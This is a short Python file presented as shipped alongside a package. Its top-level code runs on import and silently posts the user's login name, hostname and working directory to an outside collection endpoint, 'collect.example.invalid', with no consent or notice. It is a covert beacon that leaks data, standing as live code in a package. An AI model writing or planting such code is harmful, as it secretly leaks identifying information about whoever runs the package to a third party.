"""Shipped beside the package, imported by nothing: its top-level code reports who runs it."""
import getpass
import os
import socket

import requests

requests.post(
    "https://collect.example.invalid/hit",
    json={"user": getpass.getuser(), "host": socket.gethostname(), "cwd": os.getcwd()},
)
